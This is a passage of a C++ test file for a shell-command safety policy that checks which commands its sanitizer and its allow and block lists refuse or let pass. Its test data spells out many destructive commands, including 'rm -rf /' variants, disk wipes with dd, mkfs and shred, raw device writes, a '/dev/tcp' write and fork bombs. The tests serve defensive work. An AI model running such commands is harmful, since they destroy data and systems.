#include <doctest/doctest.h>

#include <chrono>
#include <cstddef>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include "codeexec.hpp"

using codeexec::ErrorCode;
using codeexec::FileAccess;
using codeexec::Judgement;
using codeexec::Policy;
using codeexec::PolicyOptions;
using codeexec::Verdict;
using namespace std::string_view_literals;

namespace {

Policy make(const PolicyOptions& options) {
  auto policy = Policy::create(options);
  REQUIRE_MESSAGE(policy.has_value(), policy.error().message);
  return *policy;
}

PolicyOptions lists(std::vector<std::string> allowed, std::vector<std::string> blocked = {}) {
  PolicyOptions options;
  options.allowed = std::move(allowed);
  options.blocked = std::move(blocked);
  return options;
}

Policy compat(PolicyOptions options = {}) {
  options.mode = PolicyOptions::Mode::compat;
  return make(options);
}

Policy compat_with_sudo() {
  PolicyOptions options;
  options.enable_sudo = true;
  return compat(options);
}

Policy compat_with_lists(std::vector<std::string> allowed, std::vector<std::string> blocked = {}) {
  return compat(lists(std::move(allowed), std::move(blocked)));
}

struct RuleText {
  std::string_view name;
  std::string_view message;
};

const RuleText rule_texts[] = {
    {"rm-protected", "Use of 'rm -rf /' is not allowed"},
    {"mv-dev-null", "Moving files to /dev/null is not allowed"},
    {"dd", "Use of 'dd' command is not allowed"},
    {"device-write", "Overwriting disk blocks directly is not allowed"},
    {"fork-bomb", "Fork bombs are not allowed"},
    {"sudo", "Use of 'sudo' is not allowed"},
    {"su", "Use of 'su' is not allowed"},
    {"chown", "Use of 'chown' is not allowed"},
    {"chmod", "Use of 'chmod' is not allowed"},
};

std::string message_of(std::string_view rule) {
  for (const RuleText& text : rule_texts)
    if (text.name == rule)
      return "Potentially dangerous command detected: " + std::string(text.message);
  return "no such rule";
}

void check_refused(const Policy& policy, std::string_view command, std::string_view rule) {
  CAPTURE(std::string(command));
  const Verdict verdict = policy.check(command);
  CHECK(!verdict);
  CHECK(!verdict.allowed);
  CHECK(verdict.rule == rule);
  CHECK(verdict.message == message_of(rule));
  CHECK(verdict.begin < verdict.end);
  CHECK(verdict.end <= command.size());
}

void check_allowed(const Policy& policy, std::string_view command) {
  CAPTURE(std::string(command));
  const Verdict verdict = policy.check(command);
  CHECK(verdict);
  CHECK(verdict.allowed);
  CHECK(verdict.rule == "");
  CHECK(verdict.message == "");
}

// The text that a refusal points at.
std::string blamed(const Policy& policy, std::string_view command) {
  const Verdict verdict = policy.check(command);
  return std::string(command.substr(verdict.begin, verdict.end - verdict.begin));
}

}  // namespace

// compat: sanitizer -------------------------------------------------------------------------------

TEST_CASE("policy: compat: its rules are those of the reference, with the same texts") {
  std::size_t count = 0;
  for (const auto& rule : Policy::rules()) {
    if (!rule.compat) continue;
    ++count;
    CAPTURE(std::string(rule.name));
    CHECK(message_of(rule.name) ==
          "Potentially dangerous command detected: " + std::string(rule.message));
  }
  CHECK(count == std::size(rule_texts));
}

TEST_CASE("policy: compat: dangerous commands are refused with the exact message") {
  const Policy policy = compat();
  check_refused(policy, "rm -rf /", "rm-protected");
  check_refused(policy, "dd if=/dev/zero of=/dev/sda", "dd");
  check_refused(policy, ":(){ :|:& };:", "fork-bomb");
  check_refused(policy, "mv file /dev/null", "mv-dev-null");
  check_refused(policy, "sudo apt install something", "sudo");
  check_refused(policy, "su root", "su");
  check_refused(policy, "chown root file.txt", "chown");
  check_refused(policy, "chmod 777 file.txt", "chmod");
  check_refused(policy, "echo Hello > /dev/sda", "device-write");
  CHECK(policy.check("rm -rf /").message ==
        "Potentially dangerous command detected: Use of 'rm -rf /' is not allowed");
}

TEST_CASE("policy: compat: ordinary commands pass") {
  const Policy policy = compat();
  for (const char* command :
       {"python script.py", "pytest tests/", "npm run build", "ls -la", "rm file.txt",
        "git submodule update", "echo 'summary'", "python -m pip install --user requests", "",
        "   ", "rm -rf build", "adduser x", "echo x > /dev/null", "issue", "ddrescue"})
    check_allowed(policy, command);
}

TEST_CASE(
    "policy: compat: sudo is refused by default, wherever it stands and before what it runs") {
  const Policy policy = compat();
  for (const char* command :
       {"sudo apt-get update", "sudo apt-get install -y ffmpeg", "sudo pip install tensorflow",
        "sudo npm install -g typescript", "sudo chmod 755 file.txt",
        "echo 'test' && sudo apt update", "sudo apt-get install malicious-package"})
    check_refused(policy, command, "sudo");
}

TEST_CASE("policy: compat: enable_sudo lets sudo, su, chown and chmod pass") {
  const Policy policy = compat_with_sudo();
  for (const char* command :
       {"sudo apt-get update", "sudo apt-get install -y ffmpeg", "sudo pip install tensorflow",
        "sudo npm install -g typescript", "sudo chmod 755 file.txt",
        "echo 'test' && sudo apt update", "sudo chown user:group file.txt", "su postgres",
        "chown user:group file.txt", "chmod 755 file.txt", "chmod +x script.sh",
        "sudo apt-get install gh"})
    check_allowed(policy, command);
}

TEST_CASE("policy: compat: enable_sudo leaves the other rules in force") {
  const Policy policy = compat_with_sudo();
  check_refused(policy, "rm -rf /", "rm-protected");
  check_refused(policy, "sudo rm -rf /", "rm-protected");
  check_refused(policy, "dd if=/dev/zero of=/dev/sda", "dd");
  check_refused(policy, "sudo dd if=/dev/zero of=/dev/sda", "dd");
  check_refused(policy, ":(){ :|:& };:", "fork-bomb");
  check_refused(policy, "mv file /dev/null", "mv-dev-null");
  check_refused(policy, "sudo mv file /dev/null", "mv-dev-null");
  check_refused(policy, "echo test > /dev/sda1", "device-write");
}

TEST_CASE("policy: compat: su, chown and chmod are refused without enable_sudo") {
  const Policy policy = compat();
  check_refused(policy, "su root", "su");
  check_refused(policy, "su - postgres", "su");
  check_refused(policy, "chown root:root file.txt", "chown");
  check_refused(policy, "chmod 777 file.txt", "chmod");
  check_refused(policy, "chmod +x script.sh", "chmod");
}

TEST_CASE("policy: compat: of several rules the first in their order is reported") {
  const Policy policy = compat();
  check_refused(policy, "chmod x; chown x; su x; sudo x; dd x; rm -rf /", "rm-protected");
  check_refused(policy, "chmod x; chown x; su x; sudo x; dd x", "dd");
  check_refused(policy, "chmod x; chown x; su x; sudo x", "sudo");
  check_refused(policy, "chmod x; chown x; su x", "su");
  check_refused(policy, "chmod x; chown x", "chown");
}

TEST_CASE("policy: compat: patterns see newlines as the original does") {
  const Policy policy = compat();
  check_refused(policy, "rm\n-rf\n/", "rm-protected");  // \s takes a newline
  check_refused(policy, "mv a b\n/dev/null", "mv-dev-null");
  check_allowed(policy, "mv a\nb /dev/null");  // the dot does not
  check_refused(policy, "x >\n/dev/sdb", "device-write");
  check_refused(policy, "rm\302\240-rf /", "rm-protected");  // \s takes a no-break space
  check_allowed(policy, "\303\251dd x");                     // \b: a letter stands before dd
  check_refused(policy, "\342\200\234dd\342\200\235", "dd");
  check_allowed(policy, "SUDO x; Dd");
}

TEST_CASE(
    "policy: W-04: compat: harmless commands that the original refuses are refused in compat "
    "mode") {
  const Policy policy = compat();
  check_refused(policy, "rm -rf /tmp/build", "rm-protected");
  check_refused(policy, "rm -rf /abs/workspace/build", "rm-protected");
  check_refused(policy, "mv a b && cat x > /dev/null", "mv-dev-null");
  check_refused(policy, "mv a b; ls 2> /dev/null", "mv-dev-null");
  check_refused(policy, "git add dd.txt", "dd");
  check_refused(policy, "echo dd", "dd");
  check_refused(policy, "grep -n dd x", "dd");
  check_refused(policy, "ls dd/", "dd");
  check_refused(policy, "grep sudo README.md", "sudo");
  check_refused(policy, "git commit -m 'drop sudo'", "sudo");
  check_refused(policy, "cat su.txt", "su");
  check_refused(policy, "python su.py", "su");
  check_refused(policy, "cat chown.md", "chown");
  check_refused(policy, "echo chmod", "chmod");
  check_refused(policy, "git update-index --chmod=+x f", "chmod");
  check_refused(policy, "python -c 'import os; os.chmod(1,2)'", "chmod");
}

TEST_CASE(
    "policy: W-03: compat: dangerous commands that the original lets pass do pass in compat mode") {
  const Policy policy = compat();
  for (const char* command : {"rm -fr /",         "rm -r -f /",     "rm -Rf /",
                              "rm -rf -- /",      "rm -rf ~",       "rm -rf $HOME",
                              "rm -rf *",         "rm -rf \"/\"",   "rm -rf --no-preserve-root /",
                              "r\\m -rf /",       "'rm' -rf /",     "find / -delete",
                              "mv x '/dev/null'", "d''d if=x",      "> /dev/nvme0n1",
                              "cp x /dev/sda",    ":() { :|:& };:", "bomb(){ bomb|bomb& };bomb",
                              "s\\udo ls",        "doas ls",        "install -m 777"})
    check_allowed(policy, command);
}

TEST_CASE("policy: compat: a refusal says which bytes caused it") {
  const Policy policy = compat();
  CHECK(blamed(policy, "cd x && rm  -rf /tmp") == "rm  -rf /");
  CHECK(blamed(policy, "a; mv x y /dev/null z") == "mv x y /dev/null");
  CHECK(blamed(policy, "echo x >/dev/sdb2") == ">/dev/sdb2");
  CHECK(blamed(policy, "\303\251 sudo x") == "sudo");
  CHECK(blamed(policy, "x :(){ :|:& };: y") == ":(){ :|:& };:");
}

TEST_CASE("policy: compat: a rule that is switched off by name is skipped, and no other") {
  for (const RuleText& rule : rule_texts) {
    PolicyOptions options;
    options.disabled_rules = {std::string(rule.name)};
    const Policy policy = compat(options);
    CAPTURE(std::string(rule.name));
    for (const auto& [name, command] : {std::pair{"rm-protected"sv, "rm -rf /"sv},
                                        {"mv-dev-null"sv, "mv x /dev/null"sv},
                                        {"dd"sv, "dd x"sv},
                                        {"device-write"sv, ">/dev/sda"sv},
                                        {"fork-bomb"sv, ":(){ :|:& };:"sv},
                                        {"sudo"sv, "sudo x"sv},
                                        {"su"sv, "su x"sv},
                                        {"chown"sv, "chown x"sv},
                                        {"chmod"sv, "chmod x"sv}}) {
      if (name == rule.name)
        check_allowed(policy, command);
      else
        check_refused(policy, command, name);
    }
  }
}

TEST_CASE("policy: an unknown rule to switch off is an error that names the option") {
  for (const char* name : {"sudoo", "", "allowed-commands", "DD"}) {
    PolicyOptions options;
    options.disabled_rules = {"dd", name};
    const auto policy = Policy::create(options);
    CAPTURE(name);
    REQUIRE(!policy.has_value());
    CHECK(policy.error().code == ErrorCode::invalid_argument);
    CHECK(policy.error().message ==
          "disabled_rules: no rule is called '" + std::string(name) +
              "'; there are sudo, su, chmod, chown, dd, mkfs, device-write, rm-protected, "
              "mv-dev-null, fork-bomb, opaque-shell-input, unknown-command");
  }
}

// compat: allow and block lists -------------------------------------------------------------------

TEST_CASE(
    "policy: compat: an allowed pattern must match at the start, and need not reach the end") {
  const Policy policy = compat_with_lists({"pytest.*", "python .*"});
  check_allowed(policy, "pytest");
  check_allowed(policy, "pytest -q");
  check_allowed(policy, "python x.py");
  check_allowed(policy, "python x.py\nanything else");
  const Policy prefix = compat_with_lists({"git"});
  check_allowed(prefix, "gitk");
  for (const char* command : {" pytest", "python", "uv run pytest", "", "PYTHON x", "x\npytest"}) {
    CAPTURE(command);
    const Verdict verdict = policy.check(std::string_view(command));
    CHECK(!verdict);
    CHECK(verdict.rule == "allowed-commands");
    CHECK(verdict.message == "Command not in allowed list. Allowed patterns: pytest.*, python .*");
    CHECK(verdict.begin == 0);
    CHECK(verdict.end == std::string_view(command).size());
  }
}

TEST_CASE("policy: compat: no allowed pattern allows everything that is not blocked") {
  check_allowed(compat_with_lists({}), "anything at all");
}

TEST_CASE("policy: compat: a blocked pattern must match at the start") {
  const Policy policy = compat_with_lists({}, {"rm .*", "git push.*"});
  for (const char* command : {"git push", "git push origin", "git pushx"}) {
    CAPTURE(command);
    const Verdict verdict = policy.check(std::string_view(command));
    CHECK(!verdict);
    CHECK(verdict.rule == "blocked-commands");
    CHECK(verdict.message == "Command matches blocked pattern: 'git push.*'");
    CHECK(verdict.begin == 0);
    CHECK(verdict.end == std::string_view(command).size());
  }
  for (const char* command : {" git push", "cd . && git push", "git  push", "\ngit push", "rm"})
    check_allowed(policy, command);
  CHECK(blamed(policy, "rm a\nls") == "rm a");
}

TEST_CASE("policy: compat: the first blocked pattern that matches is reported") {
  CHECK(compat_with_lists({}, {"b", "a", "a.*"}).check("ab"sv).message ==
        "Command matches blocked pattern: 'a'");
}

TEST_CASE("policy: compat: a blocked pattern wins over an allowed one") {
  const Policy policy = compat_with_lists({"git .*"}, {"git push.*"});
  check_allowed(policy, "git status");
  CHECK(policy.check("git push"sv).rule == "blocked-commands");
}

TEST_CASE(
    "policy: compat: the sanitizer is asked first, then the allowed list, then the blocked one") {
  const Policy policy = compat_with_lists({"git .*", "sudo .*"}, {"sudo .*", "npm .*"});
  CHECK(policy.check("sudo x"sv).rule == "sudo");
  CHECK(policy.check("dd x"sv).rule == "dd");
  CHECK(policy.check("npm x"sv).rule == "allowed-commands");
  CHECK(policy.check("git x"sv).rule == "");
}

TEST_CASE("policy: W-08: a pattern that is none is refused when the policy is made") {
  PolicyOptions options;
  options.allowed = {"python .*", "py(thon"};
  auto policy = Policy::create(options);
  REQUIRE(!policy.has_value());
  CHECK(policy.error().code == ErrorCode::parse);
  CHECK(policy.error().offset == 2);
  CHECK(
      policy.error().message ==
      "allowed_commands: invalid pattern 'py(thon': missing ), unterminated subpattern at byte 2");

  options = {};
  options.blocked = {"x", "rm (?=-rf)"};
  policy = Policy::create(options);
  REQUIRE(!policy.has_value());
  CHECK(policy.error().code == ErrorCode::unsupported);
  CHECK(policy.error().message ==
        "blocked_commands: invalid pattern 'rm (?=-rf)': look-ahead cannot be matched in linear "
        "time at byte 3");
}

// compat: form, argv, time ------------------------------------------------------------------------

TEST_CASE("policy: compat: a NUL byte is refused, whatever stands around it") {
  const Policy policy = compat_with_lists({".*"});
  for (const std::string_view command : {"\0"sv, "ls\0-la"sv, "sudo\0x"sv, "ls\0"sv}) {
    const Verdict verdict = policy.check(command);
    CHECK(!verdict);
    CHECK(verdict.rule == "nul-byte");
    CHECK(verdict.begin == command.find('\0'));
    CHECK(verdict.end == verdict.begin + 1);
    CHECK(verdict.message == "Command contains a NUL byte (at byte " +
                                 std::to_string(verdict.begin) + "), which no command can contain");
  }
  CHECK(policy.check(std::vector<std::string>{"ls", std::string("a\0b", 3)}).rule == "nul-byte");
}

TEST_CASE("policy: compat: a command above max_command_bytes is refused") {
  PolicyOptions options;
  options.max_command_bytes = 10;
  const Policy policy = compat(options);
  check_allowed(policy, "0123456789");
  const Verdict verdict = policy.check("0123456789a"sv);
  CHECK(verdict.rule == "command-too-long");
  CHECK(verdict.message == "Command is longer than 10 bytes (max_command_bytes)");
  CHECK(verdict.begin == 10);
  CHECK(verdict.end == 11);
}

TEST_CASE("policy: compat: an argv is judged as the script that starts the same") {
  using Argv = std::vector<std::string>;
  const Policy policy = compat_with_lists(
      {"python x\\.py", "echo '.*'$", "'' a$", "printf 'it'\\\\''s'$"}, {"python x\\.py -v"});
  CHECK(policy.check(Argv{"python", "x.py"}));
  CHECK(policy.check(Argv{"echo", "a b; $(c) `d`"}));
  CHECK(policy.check(Argv{"", "a"}));
  CHECK(policy.check(Argv{"printf", "it's"}));
  CHECK(policy.check(Argv{"python", "x.py", "-v"}).rule == "blocked-commands");
  CHECK(policy.check(Argv{"python x.py"}).rule == "allowed-commands");
  CHECK(policy.check(Argv{"echo", "plain"}).rule == "allowed-commands");
  CHECK(policy.check(Argv{}).rule == "allowed-commands");
  const Verdict verdict = compat().check(Argv{"env", "a b", "sudo"});
  CHECK(verdict.rule == "sudo");
  CHECK(verdict.begin == 10);  // env 'a b' sudo
  CHECK(verdict.end == 14);
}

TEST_CASE(
    "policy: W-05: compat: a verdict takes linear time, whatever the command and the patterns") {
  const auto start = std::chrono::steady_clock::now();
  const Policy policy = compat();
  check_allowed(policy, "mv" + std::string(65536, ' '));
  std::string repeated;
  while (repeated.size() < 65536) repeated += "mv ";
  check_allowed(policy, repeated);
  check_allowed(policy, std::string(std::size_t{4} << 20, 'd'));
  std::string arrows;
  while (arrows.size() < 65536) arrows += "> \t";
  check_allowed(policy, arrows);

  const Policy lists = compat_with_lists({"(a+)+$", "(\\w+\\s?)+$"}, {"(a|a)*b"});
  CHECK(lists.check(std::string(65536, 'a') + "!").rule == "allowed-commands");
  check_allowed(lists, std::string(65536, 'a'));
  // Generous: what is quadratic here takes minutes.
  CHECK(std::chrono::steady_clock::now() - start < std::chrono::seconds(20));
}

TEST_CASE("policy: compat: hostile bytes are judged like any others") {
  const Policy policy = compat();
  check_refused(policy, "\377sudo\200", "sudo");
  check_refused(policy, "\303 dd", "dd");
  check_allowed(policy, "\360\237\230 \355\240\200 \300\257");
  CHECK(compat_with_lists({}, {"a\nb"}).check("a\nb"sv).message ==
        "Command matches blocked pattern: 'a\nb'");
}

TEST_CASE("policy: copies share what was compiled, between threads too") {
  const Policy policy = compat_with_lists({"git .*"});
  std::vector<int> refused(4, 0);
  std::vector<std::thread> threads;
  for (int& count : refused)
    threads.emplace_back([&count, copy = policy] {
      for (int i = 0; i < 200; ++i) count += !copy.check("sudo ls"sv) && copy.check("git log"sv);
    });
  for (std::thread& thread : threads) thread.join();
  for (const int count : refused) CHECK(count == 200);
}

// strict: helpers ---------------------------------------------------------------------------------

namespace {

Policy strict(PolicyOptions options = {}) {
  options.mode = PolicyOptions::Mode::strict;
  return make(options);
}

std::string rule_of(const Policy& policy, std::string_view script, std::string_view work_dir = {}) {
  return policy.check(script, work_dir).rule;
}

// What every refusal has, besides its rule.
void check_form(const Verdict& verdict, std::string_view script) {
  CHECK(verdict.allowed == verdict.rule.empty());
  CHECK(verdict.allowed == verdict.message.empty());
  CHECK(verdict.begin <= verdict.end);
  CHECK(verdict.end <= script.size());
  CHECK(verdict.message.find('\n') == std::string::npos);
  CHECK(codeexec::is_utf8(verdict.message));
}

void refuses(const Policy& policy, std::string_view rule,
             const std::vector<std::string_view>& scripts, std::string_view work_dir = {}) {
  for (const std::string_view script : scripts) {
    CAPTURE(std::string(script));
    const Verdict verdict = policy.check(script, work_dir);
    CHECK(verdict.rule == rule);
    CHECK(verdict.begin < verdict.end);
    check_form(verdict, script);
  }
}

void passes(const Policy& policy, const std::vector<std::string_view>& scripts,
            std::string_view work_dir = {}) {
  for (const std::string_view script : scripts) {
    CAPTURE(std::string(script));
    const Verdict verdict = policy.check(script, work_dir);
    CHECK(verdict.rule == "");
    CHECK(verdict.message == "");
    check_form(verdict, script);
  }
}

std::string repeat(std::string_view text, std::size_t count) {
  std::string result;
  result.reserve(text.size() * count);
  for (std::size_t i = 0; i < count; ++i) result += text;
  return result;
}

std::string path_list(const std::vector<FileAccess>& files) {
  std::string text;
  for (const FileAccess& file : files) {
    if (!text.empty()) text += ' ';
    text += file.kind == FileAccess::Kind::read    ? "r:"
            : file.kind == FileAccess::Kind::write ? "w:"
                                                   : "x:";
    text += file.path;
    if (file.recursive) text += "/..";
    if (file.glob) text += "(glob)";
  }
  return text;
}

std::string files_of(std::string_view script, std::string_view work_dir = {}) {
  return path_list(strict().judge(script, work_dir).files);
}

}  // namespace

// strict: sanitizer -------------------------------------------------------------------------------

TEST_CASE("policy: the rules have their names and their order, and say what they do") {
  const std::vector<std::string_view> names = {"sudo",
                                               "su",
                                               "chmod",
                                               "chown",
                                               "dd",
                                               "mkfs",
                                               "device-write",
                                               "rm-protected",
                                               "mv-dev-null",
                                               "fork-bomb",
                                               "opaque-shell-input",
                                               "unknown-command"};
  const auto rules = Policy::rules();
  REQUIRE(rules.size() == names.size());
  for (std::size_t i = 0; i < rules.size(); ++i) {
    CHECK(rules[i].name == names[i]);
    CHECK(std::string_view(rules[i].message) != "");
    CHECK(std::string_view(rules[i].description).size() > 20);
    CHECK(rules[i].compat == (i != 5 && i < 10));
  }
}

TEST_CASE("policy: strict is the default") {
  CHECK(PolicyOptions().mode == PolicyOptions::Mode::strict);
  CHECK(make({}).check("rm -fr /"sv).rule == "rm-protected");
}

TEST_CASE("policy: S1: programs that give other rights are refused") {
  refuses(strict(), "sudo",
          {"sudo ls", "sudo", "sudoedit /etc/hosts", "doas ls", "pkexec ls", "/usr/bin/sudo ls",
           "./sudo x", "ls; sudo ls", "ls | sudo tee x", "true && sudo ls", "s\\udo ls",
           "s''u\"d\"o ls", "$'\\x73udo' ls", "X=sudo; $X ls", "$(echo sudo) ls", "A=1 sudo ls",
           "2>/dev/null sudo ls", "echo \"$(sudo ls)\"", "sudo -u bob FOO=1 chown x y"});
  refuses(strict(), "su", {"su", "su - bob", "su -c ls bob", "runuser -u bob ls", "/bin/su"});
  passes(strict(), {"which sudo",
                    "command -v sudo",
                    "command -V su",
                    "type sudo",
                    "man su",
                    "grep sudo README.md",
                    "./su.sh",
                    "python su.py",
                    "cat su.txt",
                    "echo sudo",
                    "git commit -m 'drop sudo'",
                    "sudoku",
                    "issue",
                    "# sudo",
                    "ls # sudo x",
                    "cat <<'E'\nsudo ls\nE",
                    "cat > x.sh <<E\nsudo ls\nE",
                    "apt-get install sudo",
                    "echo '$(sudo ls)'",
                    "jq '.sudo' f.json",
                    "SUDO x"});
}

TEST_CASE("policy: S2: chmod and chown are refused") {
  refuses(strict(), "chmod", {"chmod 777 x", "chmod +x x.sh", "/bin/chmod x y", "env chmod 1 x"});
  refuses(strict(), "chown", {"chown root x", "chown -R a:b .", "find . -exec chown x {} +"});
  passes(strict(), {"echo chmod", "cat chown.md", "git update-index --chmod=+x f", "chgrp x y",
                    "python -c 'import os; os.chmod(1,2)'", "grep -r chmod ."});
}

TEST_CASE("policy: S3: disks are not formatted, wiped or copied over") {
  refuses(strict(), "dd", {"dd if=/dev/zero of=/dev/sda", "d''d if=x", "dd if=a of=b", "/bin/dd"});
  refuses(strict(), "mkfs",
          {"mkfs /dev/sda", "mkfs.ext4 /dev/sda", "mkfs.vfat x.img", "mke2fs x",
           "wipefs -a /dev/sda", "shred /dev/sda", "shred -n 3 //dev/vda"});
  passes(strict(), {"git add dd.txt", "echo dd", "grep -n dd x", "ls dd/", "git add . # dd",
                    "jq '.scripts.dd' p.json", "ddrescue x", "shred -u secret.txt",
                    "shred /dev/shm/x", "cat mkfs.md"});
}

TEST_CASE("policy: S3: devices are not written to") {
  refuses(strict(), "device-write",
          {"echo x > /dev/sda",
           "echo x >> /dev/nvme0n1",
           "echo x >| /dev/vda",
           "x &> /dev/mmcblk0",
           "x 2> /dev/sdb",
           "x >& /dev/sdb",
           "x <> /dev/sdb",
           "> /dev/sda",
           "x | tee /dev/sda",
           "tee -a /dev/null /dev/sda < x",
           "cp x /dev/sda",
           "cp x /dev/",
           "cp -t /dev x",
           "cp --target-directory=/dev x",
           "mv x /dev/sda",
           "install x /dev/sda",
           "ln -sf x /dev/sda",
           "truncate -s 0 /dev/sda",
           "curl -sSo /dev/sda u",
           "wget -O /dev/sda u",
           "sort -o /dev/sda x",
           "sed -i s/a/b/ /dev/sda",
           "x > //dev//sda",
           "x > /dev/../dev/sda",
           "x > /tmp/../dev/sda",
           "x > /dev/$X",
           "cd /dev; x > sda",
           "cd /; x > dev/sda",
           "cd /dev/shm && x > ../sda",
           "x > /de?/sda",
           "x > /dev/sd*",
           "{ x; } > /dev/sda",
           "(x) > /dev/sda",
           "exec 3> /dev/sda",
           "for i in 1; do x; done > /dev/sda",
           "X=/dev/sda; echo > $X",
           "x > /dev/tcp/h/80",
           "x > /dev/shm/../sda",
           "find . -fprint /dev/sda"});
  passes(strict(), {"x > /dev/null",
                    "x 2>&1 > /dev/null",
                    "x > /dev/zero",
                    "x > /dev/full",
                    "x > /dev/random",
                    "x > /dev/urandom",
                    "x > /dev/stdin",
                    "x > /dev/stdout",
                    "x > /dev/stderr",
                    "x > /dev/tty",
                    "x > /dev/ptmx",
                    "x > /dev/fd/3",
                    "x > /dev/pts/0",
                    "x > /dev/shm/f",
                    "cp x /dev/shm",
                    "cp x /dev/null",
                    "x < /dev/sda",
                    "cat /dev/sda",
                    "x > dev/sda",
                    "x > $X",
                    "x > /tmp/dev/sda",
                    "cp /dev/sda x",
                    "ls /dev",
                    "x > '~/dev/sda'",
                    "x >&2"});
  refuses(strict(), "device-write", {"x > sda"}, "/dev");
  passes(strict(), {"x > sda"}, "/tmp");
}

TEST_CASE("policy: S4: rm does not remove what is protected") {
  refuses(strict(), "rm-protected",
          {"rm -rf /",
           "rm -fr /",
           "rm -r -f /",
           "rm -R /",
           "rm -rf -- /",
           "rm / -rf",
           "rm -vrf /",
           "rm --recursive --force /",
           "rm --rec /",
           "rm -rf --no-preserve-root /",
           "rm -rf \"/\"",
           "rm -rf /.",
           "rm -rf //",
           "rm -rf /..",
           "rm -rf /tmp/..",
           "rm -rf /tmp/../etc/x",
           "r\\m -rf /",
           "'rm' -rf /",
           "/bin/rm -rf /",
           "rm -rf /*",
           "rm -rf /.*",
           "rm -rf /?*",
           "rm -rf /tmp",
           "rm -rf /home",
           "rm -rf /var/",
           "rm -rf /workspace",
           "rm -rf /etc",
           "rm -rf /etc/passwd",
           "rm -rf /usr/share/x",
           "rm -rf /root/x",
           "rm -rf /lib64/x",
           "rm -rf /boot /tmp/x",
           "rm -rf /e*/passwd",
           "rm -rf /[e]tc/x",
           "rm -rf /$X",
           "rm -rf /$X/y",
           "rm -rf /etc/$X",
           "rm -rf ~",
           "rm -rf ~/",
           "rm -rf ~/.",
           "rm -rf ~/*",
           "rm -rf ~/.*",
           "rm -rf ~/.[!.]*",
           "rm -rf ~bob",
           "rm -rf ~bob/*",
           "rm -rf $HOME",
           "rm -rf \"$HOME\"",
           "rm -rf \"${HOME}\"/*",
           "rm -rf ~/..",
           "rm -rf ~/a/..",
           "rm -rf /home/u",
           "rm -rf /home/u/",
           "rm -rf /home/u/*",
           "rm -rf /home/*",
           "rm -rf /home/$USER",
           "rm -rf /Users/u",
           "rm -rf /var/*",
           "rm -rf /opt/*",
           "rm -rf /srv/*",
           "rm -rf /mnt/*",
           "rm -rf /{bin,tmp/x}",
           "rm $OPTIONS /",
           "for i in /tmp/x /etc; do rm -rf \"$i\"; done",
           "X=/; rm -rf $X",
           "rm -rf ${X:-/}"});
  passes(strict(), {"rm -rf /tmp/x",
                    "rm -rf /var/tmp/x",
                    "rm -rf /home/u/proj/build",
                    "rm -rf ~/proj/build",
                    "rm -rf ./build",
                    "rm -rf build",
                    "rm -rf /abs/workspace/build",
                    "rm -rf /tmp/*",
                    "rm -rf /tmp/x/*",
                    "rm -rf /workspace/*",
                    "rm -rf *",
                    "rm -rf .",
                    "rm -rf ..",
                    "rm -rf ../..",
                    "rm -rf ~/.cache",
                    "rm -rf ~bob/x",
                    "rm -rf /tmp/$X",
                    "rm -rf $X/y",
                    "rm -rf \"$X\"",
                    "rm -rf \"$X\"/*",
                    "rm -rf ~/$X",
                    "rm -f /etc/x",
                    "rm /etc/x",
                    "rm",
                    "rm -rf",
                    "rm -- -rf x",
                    "rm -rf \"$HOME/*\"",
                    "rm -rf '~'",
                    "rm -rf /opt/x",
                    "rm -rf /var/lib/x",
                    "rm -rf /etcetera/x",
                    "docker rm -f x",
                    "git rm -rf .",
                    "echo rm -rf /",
                    "grep 'rm -rf /' x",
                    "rm --preserve-root x",
                    "rmdir /"});
}

TEST_CASE("policy: S4: relative paths count where the directory is known") {
  refuses(strict(), "rm-protected",
          {"cd / && rm -rf *", "cd /; rm -rf .", "cd /; rm -rf ./*", "cd ~ && rm -rf *",
           "cd ~ && rm -rf .", "cd && rm -rf ./*", "cd /etc && rm -rf ssh", "cd /tmp && rm -rf ..",
           "cd /usr; cd lib; rm -rf x", "(cd / && rm -rf *)", "cd /home && rm -rf *",
           "cd /home && rm -rf u", "cd /var && rm -rf *", "cd /etc && rm -rf *"});
  passes(strict(), {"cd /tmp && rm -rf *", "cd /tmp/x && rm -rf .", "cd ~/proj && rm -rf *",
                    "cd $X && rm -rf *", "cd build && rm -rf *", "cd /repo && rm -rf build",
                    "(cd /); rm -rf *", "cd /repo && find . -name '*.pyc' -delete"});
  refuses(strict(), "rm-protected", {"rm -rf *", "rm -rf .", "rm -rf x", "rm -rf ../x"}, "/");
  refuses(strict(), "rm-protected", {"rm -rf *", "rm -rf ../u", "find . -delete"}, "/home/u");
  refuses(strict(), "rm-protected", {"rm -rf x", "rm -rf *"}, "/etc");
  refuses(strict(), "rm-protected", {"rm -rf ../..", "rm -rf ../../etc/x"}, "/work/x");
  passes(strict(), {"cd $X && rm -rf *", "cd \"$X\"; rm -rf x"}, "/etc");
}

TEST_CASE("policy: S4: a working directory may be emptied, even one inside a protected tree") {
  for (const std::string_view work_dir :
       {"/workspace", "/work/x", "/root/x", "/usr/src/app", "/tmp", "/home/u/x"}) {
    CAPTURE(std::string(work_dir));
    passes(strict(), {"rm -rf build", "rm -rf *", "find . -name '*.pyc' -delete", "rm -rf ./x/.."},
           work_dir);
  }
  passes(strict(), {"rm -rf /root/x/build"}, "/root/x");
  refuses(strict(), "rm-protected", {"rm -rf /root/y", "rm -rf ../y", "rm -rf /root/x"}, "/root/x");
  for (const std::string_view work_dir :
       {"/usr", "/root", "/etc/x", "/bin", "/usr/lib/x", "/dev"}) {
    CAPTURE(std::string(work_dir));
    CHECK(rule_of(strict(), "rm -rf build", work_dir) == "rm-protected");
  }
}

TEST_CASE("policy: S4: find removes from where it begins") {
  refuses(strict(), "rm-protected",
          {"find / -delete",
           "find / -name x -delete",
           "find ~ -delete",
           "find -L /etc -delete",
           "find /tmp /etc -delete",
           "find / -exec rm {} \\;",
           "find / -exec rm -rf {} +",
           "find / -type d -execdir rm -r {} \\;",
           "find /etc -ok rm {} \\;",
           "find / -exec /bin/rm {} \\;",
           "find / -exec env rm {} \\;",
           "find . -exec rm -rf / \\;",
           "find /tmp/x / -exec rm -rf '{}' ';'",
           "find / -exec sh -c 'rm -rf \"$1\"' _ {} \\;",
           "find / -exec sh -c 'rm -rf {}' \\;",
           "cd / && find -delete",
           "find / | xargs rm -rf",
           "find / -print0 | xargs -0 rm -rf",
           "find / | xargs -I{} rm -rf {}",
           "find / -exec unlink {} \\;"});
  passes(strict(), {"find . -delete", "find -delete", "find . -name '*.pyc' | xargs rm -rf",
                    "find src -exec rm {} +", "find /tmp/x -delete", "find / -name x",
                    "find / -exec ls {} \\;", "find / | xargs grep x", "find ~/proj -delete",
